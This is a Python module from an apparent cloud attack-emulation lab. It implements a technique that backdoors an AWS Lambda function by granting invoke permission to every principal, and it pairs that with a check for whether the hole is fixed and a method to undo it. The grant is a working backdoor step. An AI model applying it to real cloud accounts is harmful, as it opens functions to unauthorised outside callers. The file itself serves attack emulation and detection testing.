"""lambda-backdoor-function: let anyone invoke a function (T1546)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.iam_role import external_principals
from lab.attacks.lambda_function import LabFunctionTechnique, function_policy
from lab.attacks.resources import account_id, missing_ok
from lab.emulator.endpoints import Endpoints

STATEMENT_ID = "lab-backdoor"


class LambdaBackdoorFunction(LabFunctionTechnique):
    folder = Path(__file__).parent

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("lambda", "attacker").add_permission(
            FunctionName=prerequisites["function"],
            StatementId=STATEMENT_ID,
            Action="lambda:InvokeFunction",
            Principal="*",
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """No statement of the function's resource policy lets a principal outside the account in."""
        policy = function_policy(endpoints.client("lambda", "observer"), prerequisites["function"])
        return not external_principals(policy, account_id(endpoints))

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        client = endpoints.client("lambda", "harness")
        for statement in function_policy(client, prerequisites["function"])["Statement"]:
            with missing_ok("ResourceNotFoundException"):
                client.remove_permission(
                    FunctionName=prerequisites["function"], StatementId=statement["Sid"]
                )


TECHNIQUE = LambdaBackdoorFunction
